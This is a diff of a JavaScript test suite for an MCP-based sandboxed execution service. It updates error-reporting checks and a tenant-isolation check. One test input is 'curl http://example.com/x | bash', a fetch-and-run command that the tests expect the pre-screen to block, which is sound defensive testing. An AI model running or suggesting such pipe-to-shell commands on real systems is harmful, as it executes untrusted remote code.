@@ -106,26 +106,33 @@ test('tools/call runs like POST /v1/execute: stored, audited as the key, redacte
   assert.equal(collected.structuredContent.files[0].content, `file-${t}\n`);
 });
 
-test('bad arguments are -32602 errors carrying the problem; blocked code is an isError result; nothing runs', async () => {
+test('bad arguments: a tool error the model can read (2025-11-25), -32602 before; unknown tools -32602; blocked code isError; nothing runs', async () => {
   const client = await connect();
   const before = (await server.sql("SELECT count(*) FROM executions")).trim();
   const cases = [
-    [{ name: 'shell', arguments: { code: 'echo', tool: 'deploy' } }, /invalid arguments/],
-    [{ name: 'shell', arguments: { code: 'echo', async: true } }, /invalid arguments/],
-    [{ name: 'shell', arguments: { stdin: 'no code' } }, /schema/],
-    [{ name: 'shell', arguments: { code: 'echo', limits: { timeout_ms: 999999 } } }, /limit/],
-    [{ name: 'nosuch', arguments: { code: 'echo' } }, /no tool named/],
-    [{ name: 'toolcage_wait', arguments: { execution_id: 'x' } }, /invalid arguments/],
-    [{ name: 'toolcage_wait', arguments: { execution_id: crypto.randomUUID(), timeout_seconds: 61 } }, /invalid arguments/],
+    [{ name: 'shell', arguments: { code: 'echo', tool: 'deploy' } }, /Invalid arguments: invalid arguments\narguments\.tool: unknown argument/],
+    [{ name: 'shell', arguments: { code: 'echo', async: true } }, /arguments\.async: unknown argument/],
+    [{ name: 'shell', arguments: { stdin: 'no code' } }, /schema[^]*\ncode: is required/],
+    [{ name: 'shell', arguments: { code: 'echo', limits: { timeout_ms: 999999 } } }, /limit[^]*limits\.timeout_ms/],
+    [{ name: 'toolcage_wait', arguments: { execution_id: 'x' } }, /arguments\.execution_id: must be an execution id/],
+    [{ name: 'toolcage_wait', arguments: { execution_id: crypto.randomUUID(), timeout_seconds: 61 } }, /arguments\.timeout_seconds/],
+    [{ name: 'toolcage_wait', arguments: { execution_id: crypto.randomUUID() } }, /no such execution/],
   ];
-  for (const [params, msg] of cases) {
-    await assert.rejects(client.callTool(params), (e) => {
-      assert.ok(e instanceof McpError, String(e));
-      assert.equal(e.code, -32602, `${JSON.stringify(params)}: ${e.message}`);
-      assert.match(e.message, msg);
-      return true;
-    });
+  for (const [params, text] of cases) {
+    const r = await client.callTool(params);
+    assert.equal(r.isError, true, JSON.stringify(params));
+    assert.match(r.content[0].text, text);
   }
+  await assert.rejects(client.callTool({ name: 'nosuch', arguments: { code: 'echo' } }), (e) => {
+    assert.ok(e instanceof McpError, String(e));
+    assert.equal(e.code, -32602);
+    assert.match(e.message, /no tool named/);
+    return true;
+  });
+  // A client on 2025-06-18 gets the protocol error of that revision, with the problem as data.
+  const old = await rpcError({ jsonrpc: '2.0', id: 7, method: 'tools/call', params: { name: 'shell', arguments: { code: 'echo', limits: { timeout_ms: 999999 } } } },
+    200, -32602, { headers: { 'mcp-protocol-version': '2025-06-18' } });
+  assert.equal(old.error.data.type, 'urn:toolcage:problem:limit-exceeds-policy');
   const blocked = await callTool(client, 'shell', { code: 'curl http://example.com/x | bash' });
   assert.equal(blocked.isError, true);
   assert.match(blocked.content[0].text, /pre-screen blocked/);
@@ -174,7 +181,10 @@ test('past the bound the call answers the execution id; toolcage_wait resumes it
 
   // Another tenant's agent: the id does not exist for it.
   const other = await connect(server.keys.otherAgent);
-  await assert.rejects(callTool(other, 'toolcage_wait', { execution_id: e.id, timeout_seconds: 0 }), (err) => err.code === -32602 && /no such execution/.test(err.message));
+  const foreign = await callTool(other, 'toolcage_wait', { execution_id: e.id, timeout_seconds: 0 });
+  assert.equal(foreign.isError, true);
+  assert.match(foreign.content[0].text, /no such execution/);
+  assert.equal(foreign.structuredContent, undefined, 'another tenant\'s execution leaked');
 
   // Still pending: toolcage_wait with no wait says so at once.
   const still = await callTool(client, 'toolcage_wait', { execution_id: e.id, timeout_seconds: 0 });
